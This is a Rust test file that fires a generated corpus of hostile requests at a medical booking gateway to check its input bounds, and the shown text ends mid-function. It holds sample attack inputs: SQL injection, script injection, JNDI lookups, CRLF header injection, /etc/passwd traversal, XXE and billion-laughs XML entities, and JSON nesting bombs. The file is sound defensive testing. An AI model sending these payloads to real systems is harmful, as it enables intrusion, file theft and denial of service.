//! The hostile corpus (issue 10, "Bounded input"): well over a thousand generated hostile
//! requests over every route of the route table (XML and JSON bombs, lying encodings,
//! injections in every parameter and path segment, odd methods, broken HTTP framing written
//! by hand), each answered without a 5xx (but SOAP Client faults), in its route's error
//! format and within a bounded time, with no warning or error logged; afterwards the gateway
//! is healthy and the process's peak memory is bounded.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use actix_web::web::Bytes;
use base64::Engine;
use futures_util::StreamExt;
use medgate::codec::xml::{dom, Limits};
use medgate::http::Protocol;
use medgate::model::schedule::Channel;
use medgate::store::Backend;
use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::access::{matrix_settings, records, Records, NOSCOPE, SCOPES};
use crate::booking::{patient, policy, Fx, ORG};
use crate::documents::{cda, document_reference, AUTHOR};

/// Acts for the test clinic with every scope, the registry's included: its requests get past
/// the access rules and reach the parsers.
const HOSTILE: &str = "hostile-corpus-token";
/// How long one request may take on a loaded machine; more is a hang.
const PER_REQUEST: Duration = Duration::from_secs(30);
/// Requests in flight at once.
const IN_FLIGHT: usize = 8;
/// Bodies larger than this are sent two at a time, after the rest, so the peak memory
/// measures the gateway rather than eight near-limit bodies at once.
const HEAVY: usize = 1 << 20;
/// Peak resident memory the test process (the gateway runs in it) may reach.
const MAX_RSS_MB: u64 = 300;

const SOAP11: &str = "http://schemas.xmlsoap.org/soap/envelope/";
const SOAP12: &str = "http://www.w3.org/2003/05/soap-envelope";
const FHIR_JSON: &str = "application/fhir+json";

/// Strings that try to escape their context: SQL, markup, NUL, template and JNDI lookups,
/// CRLF, traversal, odd Unicode, numbers and dates no parser should trust.
const INJECTIONS: &[&str] = &[
    "' OR 1=1--",
    "1'; DROP TABLE appointments; --",
    "<script>alert(1)</script>",
    "\0",
    "a\0b",
    "${jndi:ldap://127.0.0.1:9/a}",
    "\r\nSet-Cookie: injected=1",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "{{7*7}}#{7*7}",
    "\u{202e}\u{feff}\u{1F642}",
    "-1",
];

/// Values for parameters that take a date or an instant.
const DATES: &[&str] = &[
    "0000-01-01",
    "ge0000-01-01",
    "9999-99-99",
    "2030-02-30",
    "2016-12-31T23:59:60Z",
    "lt-0001-01-01",
    "+275760-09-13",
    "2030-01-01T00:00:00+99:99",
];

/// Values for parameters that take a number.
const NUMBERS: &[&str] = &[
    "1e400",
    "-0",
    "99999999999999999999999999",
    "-9223372036854775809",
    "0x10",
    "NaN",
];

/// One hostile request.
#[derive(Clone)]
struct Probe {
    class: &'static str,
    /// Request target as sent (path and query).
    target: String,
    wire: Wire,
    /// The status it must get, where only one will do.
    expect: Option<u16>,
}

/// A request body: ready, or made when it is sent (the big ones, so that the corpus held
/// by the test does not dwarf what the gateway takes).
#[derive(Clone)]
enum Body {
    Ready(Bytes),
    Made(usize, Arc<dyn Fn() -> String + Send + Sync>),
}

impl Body {
    fn len(&self) -> usize {
        match self {
            Body::Ready(b) => b.len(),
            Body::Made(n, _) => *n,
        }
    }

    fn bytes(&self) -> Bytes {
        match self {
            Body::Ready(b) => b.clone(),
            Body::Made(_, make) => Bytes::from(make()),
        }
    }
}

/// How a probe travels.
#[derive(Clone)]
enum Wire {
    /// Well-formed HTTP through reqwest.
    Http {
        method: Method,
        headers: Vec<(String, String)>,
        body: Body,
        token: Option<&'static str>,
    },
    /// Bytes written by hand over TCP; `malformed` HTTP may get actix's own framing answer
    /// (an empty 400, 408, 413 or 431); `half_close` ends the sending side after them.
    Raw {
        bytes: Bytes,
        malformed: bool,
        half_close: bool,
    },
}

impl Probe {
    fn http(class: &'static str, method: Method, target: impl Into<String>) -> Probe {
        Probe {
            class,
            target: target.into(),
            wire: Wire::Http {
                method,
                headers: Vec::new(),
                body: Body::Ready(Bytes::new()),
                token: Some(HOSTILE),
            },
            expect: None,
        }
    }

    fn raw(class: &'static str, target: impl Into<String>, bytes: Vec<u8>) -> Probe {
        Probe {
            class,
            target: target.into(),
            wire: Wire::Raw {
                bytes: bytes.into(),
                malformed: true,
                half_close: false,
            },
            expect: None,
        }
    }

    /// A raw request that is well-formed HTTP: the gateway itself must answer it.
    fn well_formed(mut self) -> Probe {
        if let Wire::Raw { malformed, .. } = &mut self.wire {
            *malformed = false;
        }
        self
    }

    fn expect(mut self, status: u16) -> Probe {
        self.expect = Some(status);
        self
    }

    fn half_closed(mut self) -> Probe {
        if let Wire::Raw { half_close, .. } = &mut self.wire {
            *half_close = true;
        }
        self
    }

    fn body(mut self, content_type: Option<&str>, data: impl Into<Bytes>) -> Probe {
        if let Wire::Http { headers, body, .. } = &mut self.wire {
            if let Some(ct) = content_type {
                headers.push(("content-type".into(), ct.into()));
            }
            *body = Body::Ready(data.into());
        }
        self
    }

    /// A body of about `len` bytes made by `make` when the probe is sent.
    fn made(
        self,
        content_type: &str,
        len: usize,
        make: impl Fn() -> String + Send + Sync + 'static,
    ) -> Probe {
        let mut p = self.body(Some(content_type), Bytes::new());
        if let Wire::Http { body, .. } = &mut p.wire {
            *body = Body::Made(len, Arc::new(make));
        }
        p
    }

    fn header(mut self, name: &str, value: impl Into<String>) -> Probe {
        if let Wire::Http { headers, .. } = &mut self.wire {
            headers.push((name.into(), value.into()));
        }
        self
    }

    fn token(mut self, t: Option<&'static str>) -> Probe {
        if let Wire::Http { token, .. } = &mut self.wire {
            *token = t;
        }
        self
    }

    fn size(&self) -> usize {
        match &self.wire {
            Wire::Http { body, .. } => body.len(),
            Wire::Raw { bytes, .. } => bytes.len(),
        }
    }

    fn describe(&self) -> String {
        let what = match &self.wire {
            Wire::Http { method, body, .. } => format!("{method} (body {} bytes)", body.len()),
            Wire::Raw { bytes, .. } => {
                let head: String = String::from_utf8_lossy(&bytes[..bytes.len().min(60)])
                    .escape_debug()
                    .collect();
                format!("raw \"{head}\"")
            }
        };
        let target: String = self.target.chars().take(100).collect();
        format!("[{}] {what} {target}", self.class)
    }
}

/// A hand-written HTTP/1.1 request; `Host` and `Connection: close` are added.
fn raw_request(method: &str, target: &str, headers: &[(&str, String)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("{method} {target} HTTP/1.1\r\nHost: gateway\r\nConnection: close\r\n");
    for (k, v) in headers {
        out.push_str(&format!("{k}: {v}\r\n"));
    }
    out.push_str("\r\n");
    let mut out = out.into_bytes();
    out.extend_from_slice(body);
    out
}

fn bearer() -> (&'static str, String) {
    ("Authorization", format!("Bearer {HOSTILE}"))
}

/// Percent-encodes every byte but the unreserved ones.
fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn xml_escape(s: &str) -> String {
    dom::escape_text(s).into_owned()
}

// ---------------------------------------------------------------------------------------
// What every route is, and a request to it that its parser accepts.

/// The route's path with its `{id}` taken by a real record (a probe changes it).
fn concrete(pattern: &str, r: &Records) -> String {
    let id = match pattern {
        "/fhir/Organization/{id}" | "/fhir/Location/{id}" => ORG,
        "/fhir/Appointment/{id}" | "/fhir/Appointment/{id}/$reschedule" => r.booked.as_str(),
        "/fhir/DocumentReference/{id}"
        | "/api/admin/documents/{id}"
        | "/api/admin/documents/{id}/rerun"
        | "/admin/documents/{id}/rerun" => r.document.as_str(),
        "/api/admin/transactions/{id}" => r.transaction.as_str(),
        "/api/admin/restrictions/{id}" => r.restriction_to_delete.as_str(),
        "/fhir/ServiceRequest/{id}" | "/fhir/Task/{id}" => r.referral.as_str(),
        "/fhir/ServiceRequest/{id}/$book" => r.referral_to_book.as_str(),
        "/fhir/Communication/{id}"
        | "/fhir/Communication/{id}/$answer"
        | "/fhir/Communication/{id}/$reroute"
        | "/fhir/Communication/{id}/$extend"
        | "/admin/appeals/{id}/answer" => r.appeal.as_str(),
        "/admin/outbox/{id}/rerun" => r.dead_letter.as_str(),
        "/api/admin/transactions/{id}/rerun" | "/admin/transactions/{id}/rerun" => {
            r.failed_exchange.as_str()
        }
        "/api/admin/jobs/{name}/runs" | "/api/admin/jobs/{name}/run" => {
            return pattern.replace("{name}", "retention")
        }
        "/fhir/CodeSystem/{id}" => {
            return pattern.replace(
                "{id}",
                &format!("{}-{}", crate::access::BOOK, crate::access::BOOK_VERSION),
            )
        }
        _ => "",
    };
    pattern.replace("{id}", id)
}

/// Query parameters a route reads, and which take dates or numbers.
fn query_params(method: &str, pattern: &str) -> &'static [&'static str] {
    match (method, pattern) {
        ("GET", "/fhir/Organization") => &["name", "_count", "_offset"],
        ("GET", "/fhir/Location") => &["name", "organization", "_count", "_offset"],
        ("GET", "/fhir/AuditEvent") => {
            &["patient:identifier", "agent", "date", "request", "_count"]
        }
        ("GET", "/fhir/Slot") => &[
            "organization",
            "practitioner",
            "schedule",
            "specialty",
            "start",
            "status",
            "_cursor",
            "_count",
        ],
        ("GET", "/fhir/Practitioner") => &["organization"],
        ("GET", "/fhir/PractitionerRole") => &["organization", "specialty", "practitioner"],
        ("GET", "/fhir/Schedule") => &["organization", "actor"],
        (_, "/fhir/Appointment/$find") => &[
            "start",
            "end",
            "specialty",
            "organization",
            "practitioner",
            "channel",
            "referral",
            "_count",
        ],
        ("GET", "/fhir/Appointment") => &[
            "patient:identifier",
            "status",
            "slot",
            "identifier",
            "_count",
        ],
        ("GET", "/fhir/ServiceRequest") => &[
            "patient",
            "requester",
            "performer",
            "status",
            "authored",
            "_count",
        ],
        ("GET", "/fhir/Task") => &[
            "patient",
            "requester",
            "owner",
            "business-status",
            "date",
            "_count",
        ],
        ("GET", "/api/referrals/rules") => &["organization"],
        ("GET", "/fhir/CodeSystem") => &["url", "version", "_count", "_offset"],
        ("GET", "/fhir/ValueSet/$expand") => {
            &["url", "valueSetVersion", "filter", "count", "offset"]
        }
        ("GET", "/api/admin/jobs/{name}/runs") => &["limit"],
        ("GET", "/api/admin/stats") => &["from", "to", "metric"],
        ("GET", "/api/admin/documents") | ("POST", "/api/admin/documents/rerun") => {
            &["status", "org", "kind", "error_class", "limit", "cursor"]
        }
        ("GET", "/api/admin/transactions" | "/admin/transactions") => &[
            "status",
            "operation",
            "protocol",
            "client",
            "correlation_id",
            "trace_id",
            "direction",
            "rerun_of",
            "from",
            "to",
            "limit",
            "cursor",
        ],
        ("GET", "/api/admin/restrictions") => &["organization"],
        ("GET", "/admin/documents") => &["status"],
        ("GET", "/soap/hub") | ("GET", "/soap/appeals") => &["wsdl"],
        ("GET", "/fhir/Communication") => &[
            "status",
            "district",
            "overdue",
            "sent",
            "recipient",
            "_count",
        ],
        ("GET", "/api/admin/appeals/stats") => &["from", "to", "by", "format"],
        _ => &[],
    }
}

fn values_for(param: &str) -> Vec<&'static str> {
    let mut v = INJECTIONS.to_vec();
    match param {
        "start" | "end" | "date" | "from" | "to" => v.extend(DATES),
        "_count" | "_offset" | "limit" | "count" | "offset" => v.extend(NUMBERS),
        _ => {}
    }
    v
}

/// The SOAP routes: their envelope version, action and an operation they accept.
struct SoapRoute {
    path: &'static str,
    v12: bool,
    action: &'static str,
    op: &'static str,
    ns: &'static str,
}

static SOAP_ROUTES: &[SoapRoute] = &[
    SoapRoute {
        path: "/soap/hub",
        v12: false,
        action: "http://tempuri.org/IHubService/GetLPUList",
        op: "GetLPUList",
        ns: "http://tempuri.org/",
    },
    SoapRoute {
        path: "/soap/documents",
        v12: false,
        action: "urn:medgate:documents:v1/GetDocumentStatus",
        op: "GetDocumentStatus",
        ns: "urn:medgate:documents:v1",
    },
    SoapRoute {
        path: "/soap/remd/callback",
        v12: true,
        action: "registerDocumentResult",
        op: "registerDocumentResult",
        ns: "http://egisz.rosminzdrav.ru/iehr/emdr/callback/",
    },
    SoapRoute {
        path: "/soap/remd/provider",
        v12: true,
        action: "getDocumentFile",
        op: "getDocumentFileRequest",
        ns: "http://egisz.rosminzdrav.ru/iehr/emdr/service/",
    },
    SoapRoute {
        path: "/soap/appeals",
        v12: false,
        action: "urn:medgate:appeals:v1/AnswerComplaint",
        op: "AnswerComplaint",
        ns: "urn:medgate:appeals:v1",
    },
];

impl SoapRoute {
    fn envelope_ns(&self) -> &'static str {
        if self.v12 {
            SOAP12
        } else {
            SOAP11
        }
    }

    fn content_type(&self) -> &'static str {
        if self.v12 {
            "application/soap+xml; charset=utf-8"
        } else {
            "text/xml; charset=utf-8"
        }
    }

    /// An envelope whose operation element holds `inner` (and `attrs` on its start tag).
    fn envelope(&self, attrs: &str, inner: &str) -> String {
        format!(
            r#"<s:Envelope xmlns:s="{}"><s:Body><{op} xmlns="{}"{attrs}>{inner}</{op}></s:Body></s:Envelope>"#,
            self.envelope_ns(),
            self.ns,
            op = self.op
        )
    }

    fn probe(&self, class: &'static str, body: impl Into<Bytes>) -> Probe {
        Probe::http(class, Method::POST, self.path)
            .body(Some(self.content_type()), body)
            .header("soapaction", format!("\"{}\"", self.action))
    }

    /// A probe whose envelope of about `len` bytes is made when it is sent.
    fn made(
        &'static self,
        class: &'static str,
        len: usize,
        make: impl Fn(&SoapRoute) -> String + Send + Sync + 'static,
    ) -> Probe {
        Probe::http(class, Method::POST, self.path)
            .made(self.content_type(), len, move || make(self))
            .header("soapaction", format!("\"{}\"", self.action))
    }
}

/// A body the route's parser accepts, for the JSON routes.
fn json_base(method: &str, pattern: &str, r: &Records) -> Option<Value> {
    let slot = format!("Slot/{}", r.slots[5].replacen(':', ".", 1));
    Some(match (method, pattern) {
        ("POST", "/fhir/Appointment/$find") => json!({"resourceType": "Parameters", "parameter": [
            {"name": "organization", "valueString": ORG},
            {"name": "start", "valueDateTime": "2030-01-01T09:00:00Z"},
            {"name": "end", "valueDate": "2030-01-31"}]}),
        ("POST", "/fhir/Appointment/$hold") => json!({"resourceType": "Parameters", "parameter": [
            {"name": "appointment", "resource": {"resourceType": "Appointment", "status": "proposed", "slot": [{"reference": slot}]}},
            {"name": "patient", "resource": {"resourceType": "Patient", "birthDate": "1980-05-17",
                "identifier": [{"system": "urn:oid:1.2.643.5.1.13.2.1.1.635", "value": policy(77)}]}}]}),
        ("POST", "/fhir/Appointment/$book") => json!({"resourceType": "Parameters", "parameter": [
            {"name": "appointment", "resource": {"resourceType": "Appointment", "id": r.hold_to_book, "status": "proposed"}},
            {"name": "patient", "resource": patient(78)}]}),
        ("POST", "/fhir/Appointment") => json!({
            "resourceType": "Appointment", "status": "booked", "start": "2030-01-01T09:00:00Z",
            "appointmentType": {"coding": [{"code": "EMERGENCY"}]},
            "contained": [{"resourceType": "Patient", "id": "p", "birthDate": "1980-05-17",
                "identifier": [{"system": "urn:oid:1.2.643.100.3", "value": AUTHOR}]}],
            "participant": [{"actor": {"reference": "#p"}}, {"actor": {"reference": format!("Location/{ORG}")}}]}),
        ("PUT", "/fhir/Appointment/{id}") => json!({
            "resourceType": "Appointment", "id": r.booked, "status": "cancelled",
            "cancelationReason": {"text": "hostile"}}),
        ("POST", "/fhir/Appointment/{id}/$reschedule") => json!({"resourceType": "Parameters",
            "parameter": [{"name": "slot", "valueReference": {"reference": slot}}]}),
        ("POST", "/fhir/DocumentReference") => {
            document_reference(&uuid::Uuid::new_v4().to_string(), &cda(900), &[])
        }
        ("POST", "/fhir/ServiceRequest") => crate::access::referral_body(),
        ("POST", "/fhir/ServiceRequest/$propose") => crate::access::proposal_body(),
        ("POST", "/fhir/ServiceRequest/{id}/$book") => json!({"resourceType": "Parameters",
            "parameter": [{"name": "slot", "valueReference": {"reference": format!("Slot/{}", r.referral_slot.replacen(':', ".", 1))}}]}),
        ("PUT", "/fhir/Task/{id}") => {
            json!({"resourceType": "Task", "status": "accepted", "intent": "order",
            "statusReason": {"text": "hostile"}})
        }
        ("POST", "/api/admin/restrictions") => json!({"organization": ORG, "channels": ["kiosk"],
            "from": "2031-01-01", "to": "2031-01-02", "reason": "hostile"}),
        ("POST", "/fhir/Communication") => crate::appeals::communication(
            "hostile-1",
            "district-chat",
            Some("chat"),
            "queues",
            "North",
            Some(ORG),
            93,
            Some("2026-01-10T10:00:00+03:00".into()),
        ),
        ("POST", "/fhir/Communication/{id}/$answer") => json!({"resourceType": "Parameters",
            "parameter": [{"name": "answer", "valueString": "hostile"}]}),
        ("POST", "/fhir/Communication/{id}/$reroute") => json!({"resourceType": "Parameters",
            "parameter": [{"name": "organization", "valueString": ORG}, {"name": "reason", "valueString": "hostile"}]}),
        ("POST", "/fhir/Communication/{id}/$extend") => json!({"resourceType": "Parameters",
            "parameter": [{"name": "reason", "valueString": "hostile"}]}),
        _ => return None,
    })
}

/// Every string leaf but `resourceType` replaced by `f` of it.
fn map_strings(v: &Value, f: &dyn Fn(&str) -> Option<Value>) -> Value {
    match v {
        Value::Object(m) => Value::Object(
            m.iter()
                .map(|(k, x)| {
                    let x = match x {
                        Value::String(_) if k == "resourceType" => x.clone(),
                        other => map_strings(other, f),
                    };
                    (k.clone(), x)
                })
                .collect(),
        ),
        Value::Array(a) => Value::Array(a.iter().map(|x| map_strings(x, f)).collect()),
        Value::String(s) => f(s).unwrap_or_else(|| v.clone()),
        other => other.clone(),
    }
}

/// JSON pointers of the string leaves of `v` but `resourceType`.
fn string_leaves(v: &Value, at: &str) -> Vec<String> {
    match v {
        Value::Object(m) => m
            .iter()
            .filter(|(k, _)| k.as_str() != "resourceType")
            .flat_map(|(k, x)| {
                string_leaves(
                    x,
                    &format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")),
                )
            })
            .collect(),
        Value::Array(a) => a
            .iter()
            .enumerate()
            .flat_map(|(i, x)| string_leaves(x, &format!("{at}/{i}")))
            .collect(),
        Value::String(_) => vec![at.to_string()],
        _ => Vec::new(),
    }
}

fn looks_like_date(s: &str) -> bool {
    s.len() >= 10 && s.as_bytes()[..4].iter().all(u8::is_ascii_digit) && s.as_bytes()[4] == b'-'
}

/// Big payloads, built once and shared by every probe that sends them.
struct Payloads {
    deep_array_10k: Bytes,
    deep_array_100k: Bytes,
    deep_object_10k: Bytes,
    unclosed_100k: Bytes,
    many_values: Bytes,
    number_array: Bytes,
    huge_string: Bytes,
    huge_key: Bytes,
    xml_huge: Arc<String>,
}

impl Payloads {
    fn new() -> Payloads {
        let nest = |open: &str, close: &str, n: usize| {
            Bytes::from(format!("{}{}", open.repeat(n), close.repeat(n)))
        };
        let mut many = String::from(r#"{"resourceType":"Parameters","parameter":["#);
        many.push_str(&"{},".repeat(50_000));
        many.push_str("{}]}");
        let mut numbers = String::from("[");
        numbers.push_str(&"1,".repeat(500_000));
        numbers.push_str("1]");
        let big = "A".repeat(3 << 20);
        Payloads {
            deep_array_10k: nest("[", "]", 10_000),
            deep_array_100k: nest("[", "]", 100_000),
            deep_object_10k: nest(r#"{"a":"#, "}", 10_000),
            unclosed_100k: Bytes::from("[".repeat(100_000)),
            many_values: Bytes::from(many),
            number_array: Bytes::from(numbers),
            huge_string: Bytes::from(format!(
                r#"{{"resourceType":"Parameters","parameter":[{{"name":"x","valueString":"{big}"}}]}}"#
            )),
            huge_key: Bytes::from(format!(r#"{{"{}":1}}"#, "k".repeat(1 << 20))),
            xml_huge: Arc::new(big),
        }
    }
}

// ---------------------------------------------------------------------------------------
// The corpus.

/// Injections in every query parameter (and in an unknown one, and in a parameter's name)
/// and in every path segment a route takes.
fn injections(method: &Method, pattern: &str, r: &Records) -> Vec<Probe> {
    let mut out = Vec::new();
    let path = concrete(pattern, r);
    let with_body = |p: Probe| match json_base(method.as_str(), pattern, r) {
        Some(b) => p.body(Some(FHIR_JSON), b.to_string()),
        None => p,
    };
    for param in query_params(method.as_str(), pattern) {
        for v in values_for(param) {
            let target = format!("{path}?{}={}", enc(param), enc(v));
            out.push(with_body(Probe::http(
                "query-injection",
                method.clone(),
                target,
            )));
        }
    }
    for v in ["' OR 1=1--", "<script>", "\0"] {
        let target = format!("{path}?unknown={}", enc(v));
        out.push(with_body(Probe::http(
            "query-injection",
            method.clone(),
            target,
        )));
        let target = format!("{path}?{}=1", enc(v));
        out.push(with_body(Probe::http(
            "query-injection",
            method.clone(),
            target,
        )));
    }
    // Query strings no decoder should choke on.
    for q in [
        "%FF%FE=%C0%AF",
        "a=%zz&%=%&&&==",
        "organization",
        "organization=1&organization=2&organization=3",
        &"a=1&".repeat(2_000),
    ] {
        out.push(with_body(Probe::http(
            "query-injection",
            method.clone(),
            format!("{path}?{q}"),
        )));
    }
    if pattern == "/fhir/Slot" {
        // Cursors are base64 of `start|id`: what they decode to is as hostile as the rest.
        let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
        for c in [
            "0|a\0b",
            "9223372036854775807|' OR 1=1--",
            "-9223372036854775808|",
            "1e400|x",
            "|",
        ] {
            out.push(Probe::http(
                "query-injection",
                method.clone(),
                format!("{path}?_cursor={}", b64.encode(c)),
            ));
        }
        out.push(Probe::http(
            "query-injection",
            method.clone(),
            format!("{path}?_cursor={}", b64.encode([0xff, 0x7c, 0xfe])),
        ));
    }
    if pattern.contains("{id}") {
        let long = "A".repeat(10_000);
        let mut ids: Vec<&str> = INJECTIONS.to_vec();
        ids.extend(["0", "1e400", "%ff", long.as_str(), "a/b", "..%2f..%2fapi"]);
        for id in ids {
            let target = pattern.replace("{id}", &enc(id));
            out.push(with_body(Probe::http(
                "path-injection",
                method.clone(),
                target,
            )));
        }
    }
    out
}

/// Without credentials, with a broken or a hostile Authorization header, and a client
/// without scopes.
fn credentials(method: &Method, pattern: &str, r: &Records) -> Vec<Probe> {
    let path = concrete(pattern, r);
    let base = || Probe::http("credentials", method.clone(), path.clone());
    let long = format!("Bearer {}", "x".repeat(20_000));
    vec![
        base().token(None),
        base().token(Some(NOSCOPE)),
        base()
            .token(None)
            .header("authorization", "Bearer ' OR 1=1--"),
        base().token(None).header("authorization", "Basic Og=="),
        base().token(None).header("authorization", "Bearer"),
        base().token(None).header("authorization", long),
    ]
}

/// Hostile values in headers the gateway reads.
fn headers(method: &Method, pattern: &str, r: &Records) -> Vec<Probe> {
    let path = concrete(pattern, r);
    let base = || {
        let p = Probe::http("hostile-headers", method.clone(), path.clone());
        match json_base(method.as_str(), pattern, r) {
            Some(b) => p.body(Some(FHIR_JSON), b.to_string()),
            None => p,
        }
    };
    let mut out = vec![
        base().header("x-request-id", "' OR 1=1--"),
        base().header("x-correlation-id", "${jndi:ldap://127.0.0.1:9/a}"),
        base().header("x-request-id", "a".repeat(8_000)),
        base().header("idempotency-key", "' OR 1=1--"),
        base().header("accept", "application/xml;q=0.9, */*;q=x"),
        base().header("soapaction", "\"http://tempuri.org/IHubService/<script>\""),
    ];
    // A key far over any index's row size, in characters that do not compress well.
    let key: String = (0..300)
        .map(|_| uuid::Uuid::new_v4().simple().to_string())
        .collect();
    out.push(base().header("idempotency-key", key));
    out
}

/// Unknown and unserved methods, by hand (reqwest will not send CONNECT to a path).
fn methods(pattern: &str, r: &Records) -> Vec<Probe> {
    let path = concrete(pattern, r);
    ["CONNECT", "TRACE", "PROPFIND", "BREW"]
        .into_iter()
        .map(|m| {
            Probe::raw(
                "unknown-method",
                path.clone(),
                raw_request(m, &path, &[bearer()], b""),
            )
            .well_formed()
            .expect(405)
        })
        .collect()
}

/// Bodies that try the JSON readers.
fn json_bodies(method: &Method, pattern: &str, r: &Records, big: &Payloads) -> Vec<Probe> {
    let path = concrete(pattern, r);
    let Some(base) = json_base(method.as_str(), pattern, r) else {
        return Vec::new();
    };
    let text = base.to_string();
    let p = |class: &'static str, body: Bytes| {
        Probe::http(class, method.clone(), path.clone()).body(Some(FHIR_JSON), body)
    };
    let s = |class: &'static str, body: String| p(class, Bytes::from(body));
    let mut out = vec![
        p("deep-nesting", big.deep_array_10k.clone()),
        p("deep-nesting", big.deep_array_100k.clone()),
        p("deep-nesting", big.deep_object_10k.clone()),
        p("deep-nesting", big.unclosed_100k.clone()),
        s(
            "deep-nesting",
            text.replacen('{', &format!("{{\"deep\":{},", "[".repeat(20_000)), 1),
        ),
        p("many-elements", big.many_values.clone()),
        p("many-elements", big.number_array.clone()),
        p("huge-values", big.huge_string.clone()),
        p("huge-values", big.huge_key.clone()),
        // Duplicate keys: which one wins must not matter to safety.
        s(
            "duplicate-keys",
            text.replacen('{', r#"{"resourceType":"Bundle","#, 1),
        ),
        s(
            "duplicate-keys",
            text.replacen('{', r#"{"id":"a","id":"b","status":"x","status":"y","#, 1),
        ),
    ];
    for lit in [
        "1e400",
        "-0",
        "123456789012345678901234567890",
        "-1e-400",
        "NaN",
        "Infinity",
        "0001",
        "1.",
        ".5",
    ] {
        out.push(s(
            "numbers",
            text.replacen('{', &format!("{{\"n\":{lit},"), 1),
        ));
        let replaced = map_strings(&base, &|_| Some(json!(0))).to_string();
        out.push(s("numbers", replaced.replace(":0", &format!(":{lit}"))));
    }
    for d in DATES
        .iter()
        .chain(&["", "1980-05-17T25:61:61Z", "20300101"])
    {
        let v = map_strings(&base, &|x| looks_like_date(x).then(|| json!(d)));
        out.push(s("dates", v.to_string()));
    }
    for inj in INJECTIONS {
        let v = map_strings(&base, &|_| Some(json!(inj)));
        out.push(s("injection", v.to_string()));
    }
    // One field at a time, so the others stay valid and the value gets as far as it can.
    let long: String = (0..300)
        .map(|_| uuid::Uuid::new_v4().simple().to_string())
        .collect();
    for at in string_leaves(&base, "") {
        for v in ["a\0b", "' OR 1=1--", "", long.as_str()] {
            let mut one = base.clone();
            if let Some(leaf) = one.pointer_mut(&at) {
                *leaf = json!(v);
            }
            out.push(s("injection", one.to_string()));
        }
    }
    let bytes = text.as_bytes();
    let mut invalid = bytes.to_vec();
    let at = invalid.iter().position(|b| *b == b':').unwrap_or(1) + 2;
    invalid.splice(at..at, [0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80]);
    out.push(p("invalid-utf8", Bytes::from(invalid)));
    let mut cut = bytes.to_vec();
    cut.push(0xe2);
    out.push(p("invalid-utf8", Bytes::from(cut)));
    out.push(s(
        "invalid-utf8",
        text.replacen('{', r#"{"s":"\ud800\udfff\ud800","#, 1),
    ));
    out.push(s("nul", text.replacen('{', r#"{"s":"a\u0000b","#, 1)));
    out.push(s(
        "nul",
        map_strings(&base, &|x| Some(json!(format!("{x}\u{0}")))).to_string(),
    ));
    let mut raw_nul = bytes.to_vec();
    raw_nul.insert(1, 0);
    out.push(p("nul", Bytes::from(raw_nul)));
    let utf16 = |le: bool, bom: bool| {
        let mut out: Vec<u8> = if bom {
            if le {
                vec![0xff, 0xfe]
            } else {
                vec![0xfe, 0xff]
            }
        } else {
            Vec::new()
        };
        for u in text.encode_utf16() {
            out.extend(if le { u.to_le_bytes() } else { u.to_be_bytes() });
        }
        Bytes::from(out)
    };
    out.push(p("utf16", utf16(true, true)));
    out.push(p("utf16", utf16(false, true)));
    out.push(p("utf16", utf16(true, false)));
    out.push(p("utf16", utf16(false, false)));
    let mut bom = vec![0xef, 0xbb, 0xbf];
    bom.extend_from_slice(bytes);
    out.push(p("utf16", Bytes::from(bom)));
    for n in [1, bytes.len() / 3, bytes.len() / 2, bytes.len() - 1] {
        out.push(p("truncated", Bytes::copy_from_slice(&bytes[..n])));
    }
    for b in [
        "",
        " \r\n\t ",
        "null",
        "[]",
        "\"x\"",
        "{}",
        "0",
        "true",
        "{\"resourceType\":null}",
    ] {
        out.push(s("empty-or-bare", b.to_string()));
    }
    for ct in [
        None,
        Some("text/plain"),
        Some("application/xml"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        Some("application/fhir+json; charset=utf-16"),
        Some("application/fhir+json; charset=\"><script>"),
        Some("*/*"),
    ] {
        out.push(
            Probe::http("wrong-content-type", method.clone(), path.clone()).body(ct, text.clone()),
        );
    }
    out.push(
        Probe::http("doctype", method.clone(), path.clone()).body(
            Some("application/fhir+xml"),
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Parameters xmlns="http://hl7.org/fhir">&x;</Parameters>"#,
        ),
    );
    out
}

/// One near-limit body per protocol, sent with the heavy ones.
fn near_limit() -> Vec<Probe> {
    const NEAR: usize = 10 * 1024 * 1024 - 1024;
    let json = || {
        format!(
            r#"{{"resourceType":"Parameters","parameter":[{{"name":"x","valueString":"{}"}}]}}"#,
            "B".repeat(NEAR - 100)
        )
    };
    let hub = &SOAP_ROUTES[0];
    vec![
        Probe::http("huge-values", Method::POST, "/fhir/Appointment/$hold")
            .made(FHIR_JSON, NEAR, json),
        Probe::http("huge-values", Method::POST, "/api/admin/restrictions").made(
            "application/json",
            NEAR,
            json,
        ),
        hub.made("huge-attribute", NEAR, |r| {
            r.envelope(&format!(r#" a="{}""#, "C".repeat(NEAR - 300)), "")
        }),
        hub.made("huge-values", NEAR, |r| {
            r.envelope("", &"C".repeat(NEAR - 300))
        }),
    ]
}

/// Bodies that try the XML readers, for one SOAP route.
fn xml_bodies(route: &'static SoapRoute, big: &Payloads) -> Vec<Probe> {
    let decl = r#"<?xml version="1.0" encoding="UTF-8"?>"#;
    let env = |inner: &str| route.envelope("", inner);
    let with_dtd = |dtd: &str, inner: &str| format!("{decl}{dtd}{}", env(inner));
    let p = |class: &'static str, body: String| route.probe(class, body);
    let mut laughs = String::from("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
    for i in 1..10 {
        let refs = format!("&lol{};", i - 1).repeat(10);
        laughs.push_str(&format!("<!ENTITY lol{i} \"{refs}\">"));
    }
    laughs.push_str("]>");
    let mut out = vec![
        p(
            "xxe",
            with_dtd(
                r#"<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
                "&xxe;",
            ),
        ),
        p(
            "xxe",
            with_dtd(
